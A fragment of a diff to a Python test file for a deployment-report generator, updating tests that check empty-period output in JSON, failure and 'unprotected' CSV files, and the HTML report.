     dom_text, console = _open(output / "report.html", tmp_path, "--dump-dom")
     assert console == [], "\n".join(console)
@@ -356,11 +543,13 @@ def test_filters_select_the_deployments_and_are_shown(history, tmp_path):
     assert "all accounts" not in text and "all statuses" not in text and "all patterns" in text
 
 
-def test_an_empty_period_gives_an_empty_report(history, tmp_path):
+def test_an_empty_period_gives_an_empty_report(history_runs, tmp_path):
     output = tmp_path / "empty"
-    _report(history, output, drs_report_since="2020-01-01T00:00:00Z", drs_report_until="2020-01-02T00:00:00Z")
+    _report(history_runs, output, drs_report_since="2020-01-01T00:00:00Z", drs_report_until="2020-01-02T00:00:00Z")
     generated = json.loads((output / "deployments.json").read_text(encoding="utf-8"))
     assert generated["deployments"] == [] and generated["count"] == 0
-    assert (output / "failures.csv").read_text(encoding="utf-8").splitlines() == [",".join(CSV_COLUMNS)]
+    assert (output / "failures.csv").read_text(encoding="utf-8").splitlines() == [",".join(FAILURE_COLUMNS)]
+    assert (output / "unprotected.csv").read_text(encoding="utf-8").splitlines() == [",".join(UNPROTECTED_COLUMNS)]
     html = (output / "report.html").read_text(encoding="utf-8")
-    assert "No deployment in this period." in html and "account-cell" not in html.split("</style>", 1)[1]
+    body = html.split("</style>", 1)[1]
+    assert "No deployment in this period." in html and "account-cell" not in body and 'class="unprotected"' not in body
